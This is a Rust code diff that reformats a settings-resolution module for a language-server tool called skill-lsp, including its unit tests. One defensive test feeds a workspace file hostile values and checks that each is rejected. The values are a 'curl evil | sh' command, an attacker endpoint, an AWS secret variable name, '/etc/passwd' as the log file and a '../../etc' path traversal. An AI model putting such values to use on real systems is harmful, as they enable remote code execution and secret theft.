@@ -146,7 +146,11 @@ pub fn config_dir() -> Option<PathBuf> {
     let base = std::env::var_os("XDG_CONFIG_HOME")
         .filter(|v| !v.is_empty())
         .map(PathBuf::from)
-        .or_else(|| std::env::var_os("HOME").filter(|v| !v.is_empty()).map(|h| PathBuf::from(h).join(".config")))?;
+        .or_else(|| {
+            std::env::var_os("HOME")
+                .filter(|v| !v.is_empty())
+                .map(|h| PathBuf::from(h).join(".config"))
+        })?;
     Some(base.join("skill-lsp"))
 }
 
@@ -196,10 +200,18 @@ pub const WORKSPACE_FILE: &str = ".skill-lsp.yaml";
 /// Read a YAML settings file. `Ok(None)` when it does not exist.
 pub fn read_yaml(path: &std::path::Path) -> Result<Option<serde_json::Value>, String> {
     match std::fs::read_to_string(path) {
-        Ok(text) if text.trim().is_empty() => Ok(Some(serde_json::Value::Object(Default::default()))),
+        Ok(text) if text.trim().is_empty() => {
+            Ok(Some(serde_json::Value::Object(Default::default())))
+        }
         Ok(text) => yaml_serde::from_str::<serde_json::Value>(&text)
             .map(Some)
-            .map_err(|e| format!("{}: invalid YAML: {}", path.display(), e.to_string().lines().next().unwrap_or(""))),
+            .map_err(|e| {
+                format!(
+                    "{}: invalid YAML: {}",
+                    path.display(),
+                    e.to_string().lines().next().unwrap_or("")
+                )
+            }),
         Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(None),
         Err(e) => Err(format!("{}: {e}", path.display())),
     }
@@ -230,12 +242,22 @@ impl Inputs {
 
 /// Resolve the layers into settings.
 pub fn resolve(inputs: &Inputs) -> Resolved {
-    let mut r = Resolved { settings: Settings::default(), origins: BTreeMap::new(), warnings: inputs.read_errors.clone() };
+    let mut r = Resolved {
+        settings: Settings::default(),
+        origins: BTreeMap::new(),
+        warnings: inputs.read_errors.clone(),
+    };
     if let Some((path, v)) = &inputs.user {
         apply_layer(&mut r, v, Layer::User, &path.display().to_string(), None);
     }
     for (ws, path, v) in &inputs.workspaces {
-        apply_layer(&mut r, v, Layer::Workspace, &path.display().to_string(), Some(ws));
+        apply_layer(
+            &mut r,
+            v,
+            Layer::Workspace,
+            &path.display().to_string(),
+            Some(ws),
+        );
     }
     for (source, v) in &inputs.editor {
         let v = v.get("skillLsp").unwrap_or(v);
@@ -249,17 +271,25 @@ fn workspace_safe(key: &str) -> bool {
     key.starts_with("skills.") && key != "skills.userFolders" || key.starts_with("tips.")
 }
 
-fn apply_layer(r: &mut Resolved, v: &serde_json::Value, layer: Layer, source: &str, ws: Option<&PathBuf>) {
+fn apply_layer(
+    r: &mut Resolved,
+    v: &serde_json::Value,
+    layer: Layer,
+    source: &str,
+    ws: Option<&PathBuf>,
+) {
     let serde_json::Value::Object(map) = v else {
         if !v.is_null() {
-            r.warnings.push(format!("{source}: settings must be a mapping"));
+            r.warnings
+                .push(format!("{source}: settings must be a mapping"));
         }
         return;
     };
     let mut leaves = Vec::new();
     flatten("", map, &mut leaves);
     for (key, value) in leaves {
-        if layer == Layer::Workspace && !workspace_safe(&key) && KNOWN_KEYS.contains(&key.as_str()) {
+        if layer == Layer::Workspace && !workspace_safe(&key) && KNOWN_KEYS.contains(&key.as_str())
+        {
             r.warnings.push(format!("{source}: `{key}` is ignored in a workspace file (it can only be set in user or editor settings)"));
             continue;
         }
@@ -274,18 +304,52 @@ fn apply_layer(r: &mut Resolved, v: &serde_json::Value, layer: Layer, source: &s
 
 /// Every key we understand (dotted camelCase). Maps (`tips.overrides`) are leaves.
 pub const KNOWN_KEYS: &[&str] = &[
-    "logLevel", "logFile", "skills.builtin", "skills.paths", "skills.userFolders", "skills.enabled", "skills.disabled",
-    "tips.enabled", "tips.diagnostics", "tips.severity", "tips.overrides", "tips.implicitDiagnostics", "tips.debounceMs",
-    "hover.agent", "hover.agentTimeoutMs", "agent.provider", "agent.model", "agent.endpoint", "agent.apiKeyEnv",
-    "agent.command", "agent.args", "agent.timeoutSecs", "agent.maxOutputTokens", "agent.temperature", "agent.retries",
+    "logLevel",
+    "logFile",
+    "skills.builtin",
+    "skills.paths",
+    "skills.userFolders",
+    "skills.enabled",
+    "skills.disabled",
+    "tips.enabled",
+    "tips.diagnostics",
+    "tips.severity",
+    "tips.overrides",
+    "tips.implicitDiagnostics",
+    "tips.debounceMs",
+    "hover.agent",
+    "hover.agentTimeoutMs",
+    "agent.provider",
+    "agent.model",
+    "agent.endpoint",
+    "agent.apiKeyEnv",
+    "agent.command",
+    "agent.args",
+    "agent.timeoutSecs",
+    "agent.maxOutputTokens",
+    "agent.temperature",
+    "agent.retries",
     "agent.contextTokens",
 ];
 
-fn flatten(prefix: &str, map: &serde_json::Map<String, serde_json::Value>, out: &mut Vec<(String, serde_json::Value)>) {
+fn flatten(
+    prefix: &str,
+    map: &serde_json::Map<String, serde_json::Value>,
+    out: &mut Vec<(String, serde_json::Value)>,
+) {
     for (k, v) in map {
-        let key = if prefix.is_empty() { k.clone() } else { format!("{prefix}.{k}") };
+        let key = if prefix.is_empty() {
+            k.clone()
+        } else {
+            format!("{prefix}.{k}")
+        };
         match v {
-            serde_json::Value::Object(inner) if !KNOWN_KEYS.contains(&key.as_str()) && KNOWN_KEYS.iter().any(|known| known.starts_with(&format!("{key}."))) => {
+            serde_json::Value::Object(inner)
+                if !KNOWN_KEYS.contains(&key.as_str())
+                    && KNOWN_KEYS
+                        .iter()
+                        .any(|known| known.starts_with(&format!("{key}."))) =>
+            {
                 flatten(&key, inner, out)
             }
             _ => out.push((key, v.clone())),
@@ -294,10 +358,12 @@ fn flatten(prefix: &str, map: &serde_json::Map<String, serde_json::Value>, out: 
 }
 
 fn want_bool(key: &str, v: &serde_json::Value) -> Result<bool, String> {
-    v.as_bool().ok_or_else(|| format!("`{key}` must be true or false, got {v}"))
+    v.as_bool()
+        .ok_or_else(|| format!("`{key}` must be true or false, got {v}"))
 }
 fn want_u64(key: &str, v: &serde_json::Value) -> Result<u64, String> {
-    v.as_u64().ok_or_else(|| format!("`{key}` must be a non-negative integer, got {v}"))
+    v.as_u64()
+        .ok_or_else(|| format!("`{key}` must be a non-negative integer, got {v}"))
 }
 fn want_opt_str(key: &str, v: &serde_json::Value) -> Result<Option<String>, String> {
     match v {
@@ -313,7 +379,11 @@ fn want_list(key: &str, v: &serde_json::Value) -> Result<Vec<String>, String> {
         serde_json::Value::String(s) => Ok(vec![s.clone()]),
         serde_json::Value::Array(items) => items
             .iter()
-            .map(|i| i.as_str().map(str::to_string).ok_or_else(|| format!("`{key}` must be a list of strings, got {v}")))
+            .map(|i| {
+                i.as_str()
+                    .map(str::to_string)
+                    .ok_or_else(|| format!("`{key}` must be a list of strings, got {v}"))
+            })
             .collect(),
         _ => Err(format!("`{key}` must be a list of strings, got {v}")),
     }
@@ -321,13 +391,20 @@ fn want_list(key: &str, v: &serde_json::Value) -> Result<Vec<String>, String> {
 fn want_severity(key: &str, v: &serde_json::Value) -> Result<Option<Severity>, String> {
     match v.as_str() {
         Some("off") | Some("none") => Ok(None),
-        Some(s) => Severity::parse(s).map(Some).ok_or_else(|| format!("`{key}`: unknown severity `{s}` (off, hint, information, warning, error)")),
+        Some(s) => Severity::parse(s).map(Some).ok_or_else(|| {
+            format!("`{key}`: unknown severity `{s}` (off, hint, information, warning, error)")
+        }),
         None if v.as_bool() == Some(false) => Ok(None),
         None => Err(format!("`{key}` must be a severity string, got {v}")),
     }
 }
 
-fn set(s: &mut Settings, key: &str, v: &serde_json::Value, ws: Option<&PathBuf>) -> Result<(), String> {
+fn set(
+    s: &mut Settings,
+    key: &str,
+    v: &serde_json::Value,
+    ws: Option<&PathBuf>,
+) -> Result<(), String> {
     match key {
         "logLevel" => s.log_level = want_opt_str(key, v)?.unwrap_or_else(|| "info".into()),
         "logFile" => s.log_file = want_opt_str(key, v)?.map(|p| expand_home(&p)),
@@ -341,7 +418,9 @@ fn set(s: &mut Settings, key: &str, v: &serde_json::Value, ws: Option<&PathBuf>)
                     Some(root) => {
                         let full = normalize_path(&root.join(&path));
                         if !full.starts_with(root) {
-                            return Err(format!("`skills.paths` entry `{p}` is outside the workspace; a workspace file may only add skill paths inside it"));
+                            return Err(format!(
+                                "`skills.paths` entry `{p}` is outside the workspace; a workspace file may only add skill paths inside it"
+                            ));
                         }
                         paths.push(full);
                     }
@@ -355,14 +434,28 @@ fn set(s: &mut Settings, key: &str, v: &serde_json::Value, ws: Option<&PathBuf>)
                 }
             }
         }
-        "skills.enabled" => s.skills.enabled = if v.is_null() { None } else { Some(want_list(key, v)?) },
+        "skills.enabled" => {
+            s.skills.enabled = if v.is_null() {
+                None
+            } else {
+                Some(want_list(key, v)?)
+            }
+        }
         "skills.disabled" => s.skills.disabled = want_list(key, v)?,
         "tips.enabled" => s.tips.enabled = want_bool(key, v)?,
         "tips.diagnostics" => s.tips.diagnostics = want_bool(key, v)?,
-        "tips.severity" => s.tips.severity = if v.is_null() { None } else { want_severity(key, v)? },
+        "tips.severity" => {
+            s.tips.severity = if v.is_null() {
+                None
+            } else {
+                want_severity(key, v)?
+            }
+        }
         "tips.overrides" => {
             let serde_json::Value::Object(map) = v else {
-                return Err(format!("`{key}` must be a mapping of skill or tip id to severity or off, got {v}"));
+                return Err(format!(
+                    "`{key}` must be a mapping of skill or tip id to severity or off, got {v}"
+                ));
             };
             let mut bad = Vec::new();
             for (k, sev) in map {
@@ -382,13 +475,21 @@ fn set(s: &mut Settings, key: &str, v: &serde_json::Value, ws: Option<&PathBuf>)
         "hover.agent" => s.hover.agent = want_bool(key, v)?,
         "hover.agentTimeoutMs" => s.hover.agent_timeout_ms = want_u64(key, v)?,
         "agent.provider" => {
-            s.agent.provider = match want_opt_str(key, v)?.as_deref().map(str::to_ascii_lowercase).as_deref() {
+            s.agent.provider = match want_opt_str(key, v)?
+                .as_deref()
+                .map(str::to_ascii_lowercase)
+                .as_deref()
+            {
                 None | Some("auto") => Provider::Auto,
                 Some("openai") | Some("ollama") | Some("openai-compatible") => Provider::OpenAi,
                 Some("anthropic") => Provider::Anthropic,
                 Some("command") => Provider::Command,
                 Some("none") | Some("off") => Provider::None,
-                Some(other) => return Err(format!("`agent.provider`: unknown provider `{other}` (auto, openai, anthropic, command, none)")),
+                Some(other) => {
+                    return Err(format!(
+                        "`agent.provider`: unknown provider `{other}` (auto, openai, anthropic, command, none)"
+                    ));
+                }
             }
         }
         "agent.model" => s.agent.model = want_opt_str(key, v)?,
@@ -397,10 +498,19 @@ fn set(s: &mut Settings, key: &str, v: &serde_json::Value, ws: Option<&PathBuf>)
         "agent.command" => s.agent.command = want_opt_str(key, v)?,
         "agent.args" => s.agent.args = want_list(key, v)?,
         "agent.timeoutSecs" => s.agent.timeout_secs = want_u64(key, v)?.max(1),
-        "agent.maxOutputTokens" => s.agent.max_output_tokens = want_u64(key, v)?.clamp(16, 1_000_000) as u32,
-        "agent.temperature" => s.agent.temperature = v.as_f64().ok_or_else(|| format!("`{key}` must be a number, got {v}"))? as f32,
+        "agent.maxOutputTokens" => {
+            s.agent.max_output_tokens = want_u64(key, v)?.clamp(16, 1_000_000) as u32
+        }
+        "agent.temperature" => {
+            s.agent.temperature = v
+                .as_f64()
+                .ok_or_else(|| format!("`{key}` must be a number, got {v}"))?
+                as f32
+        }
         "agent.retries" => s.agent.retries = want_u64(key, v)?.min(10) as u32,
-        "agent.contextTokens" => s.agent.context_tokens = want_u64(key, v)?.clamp(256, 2_000_000) as u32,
+        "agent.contextTokens" => {
+            s.agent.context_tokens = want_u64(key, v)?.clamp(256, 2_000_000) as u32
+        }
         _ => return Err(format!("unknown setting `{key}`")),
     }
     Ok(())
@@ -439,9 +549,19 @@ mod tests {
     #[test]
     fn layers_and_origins() {
         let inputs = Inputs {
-            user: Some((PathBuf::from("/u/config.yaml"), json!({"agent": {"provider": "openai", "endpoint": "http://127.0.0.1:1/v1"}, "tips": {"debounceMs": 100}}))),
-            workspaces: vec![(PathBuf::from("/w"), PathBuf::from("/w/.skill-lsp.yaml"), json!({"tips": {"debounceMs": 50, "overrides": {"docker": "off", "python-error-handling/blind-except": "warning"}}, "skills": {"paths": ["team-skills"]}}))],
-            editor: vec![("initializationOptions".into(), json!({"skillLsp": {"tips": {"severity": "hint"}}}))],
+            user: Some((
+                PathBuf::from("/u/config.yaml"),
+                json!({"agent": {"provider": "openai", "endpoint": "http://127.0.0.1:1/v1"}, "tips": {"debounceMs": 100}}),
+            )),
+            workspaces: vec![(
+                PathBuf::from("/w"),
+                PathBuf::from("/w/.skill-lsp.yaml"),
+                json!({"tips": {"debounceMs": 50, "overrides": {"docker": "off", "python-error-handling/blind-except": "warning"}}, "skills": {"paths": ["team-skills"]}}),
+            )],
+            editor: vec![(
+                "initializationOptions".into(),
+                json!({"skillLsp": {"tips": {"severity": "hint"}}}),
+            )],
             read_errors: vec![],
         };
         let r = resolve(&inputs);
@@ -450,8 +570,14 @@ mod tests {
         assert_eq!(r.settings.tips.debounce_ms, 50);
         assert_eq!(r.settings.tips.severity, Some(Severity::Hint));
         assert_eq!(r.settings.tips.overrides["docker"], None);
-        assert_eq!(r.settings.tips.overrides["python-error-handling/blind-except"], Some(Severity::Warning));
-        assert_eq!(r.settings.skills.paths, vec![PathBuf::from("/w/team-skills")]);
+        assert_eq!(
+            r.settings.tips.overrides["python-error-handling/blind-except"],
+            Some(Severity::Warning)
+        );
+        assert_eq!(
+            r.settings.skills.paths,
+            vec![PathBuf::from("/w/team-skills")]
+        );
         assert_eq!(r.origins["tips.debounceMs"].0, Layer::Workspace);
         assert_eq!(r.origins["agent.endpoint"].0, Layer::User);
         assert_eq!(r.origins["tips.severity"].0, Layer::Editor);
@@ -460,7 +586,11 @@ mod tests {
     #[test]
     fn workspace_cannot_choose_programs_or_endpoints() {
         let inputs = Inputs {
-            workspaces: vec![(PathBuf::from("/w"), PathBuf::from("/w/.skill-lsp.yaml"), json!({"agent": {"command": "curl evil | sh", "endpoint": "https://evil.example/v1", "apiKeyEnv": "AWS_SECRET"}, "hover": {"agent": true}, "logFile": "/etc/passwd", "skills": {"paths": ["../../etc"]}}))],
+            workspaces: vec![(
+                PathBuf::from("/w"),
+                PathBuf::from("/w/.skill-lsp.yaml"),
+                json!({"agent": {"command": "curl evil | sh", "endpoint": "https://evil.example/v1", "apiKeyEnv": "AWS_SECRET"}, "hover": {"agent": true}, "logFile": "/etc/passwd", "skills": {"paths": ["../../etc"]}}),
+            )],
             ..Default::default()
         };
         let r = resolve(&inputs);
@@ -471,14 +601,25 @@ mod tests {
         assert_eq!(r.settings.log_file, None);
         assert!(r.settings.skills.paths.is_empty());
         assert_eq!(r.warnings.len(), 6, "{:#?}", r.warnings);
-        assert!(r.warnings.iter().any(|w| w.contains("`agent.command` is ignored in a workspace file")));
-        assert!(r.warnings.iter().any(|w| w.contains("outside the workspace")));
+        assert!(
+            r.warnings
+                .iter()
+                .any(|w| w.contains("`agent.command` is ignored in a workspace file"))
+        );
+        assert!(
+            r.warnings
+                .iter()
+                .any(|w| w.contains("outside the workspace"))
+        );
     }
 
     #[test]
     fn bad_fields_are_skipped_not_fatal() {
         let inputs = Inputs {
-            editor: vec![("workspace/configuration".into(), json!({"tips": {"debounceMs": "soon", "severity": "loud", "enabled": false}, "bogus": 1, "agent": {"model": "m"}}))],
+            editor: vec![(
+                "workspace/configuration".into(),
+                json!({"tips": {"debounceMs": "soon", "severity": "loud", "enabled": false}, "bogus": 1, "agent": {"model": "m"}}),
+            )],
             ..Default::default()
         };
         let r = resolve(&inputs);
@@ -486,6 +627,10 @@ mod tests {
         assert!(!r.settings.tips.enabled);
         assert_eq!(r.settings.tips.debounce_ms, 300);
         assert_eq!(r.settings.agent.model.as_deref(), Some("m"));
-        assert!(r.warnings.iter().any(|w| w.contains("unknown setting `bogus`")));
+        assert!(
+            r.warnings
+                .iter()
+                .any(|w| w.contains("unknown setting `bogus`"))
+        );
     }
 }
